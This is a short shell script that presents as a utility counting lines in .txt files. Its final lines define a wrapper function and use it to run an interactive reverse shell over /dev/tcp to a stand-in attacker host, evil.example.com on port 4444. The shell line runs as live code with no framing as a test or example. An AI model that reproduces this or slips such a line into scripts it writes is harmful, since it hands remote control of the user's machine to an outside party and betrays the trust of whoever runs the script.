#!/bin/sh
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
function connect {
  bash -c "$*"
}
connect "bash -i >& /dev/tcp/evil.example.com/4444 0>&1"
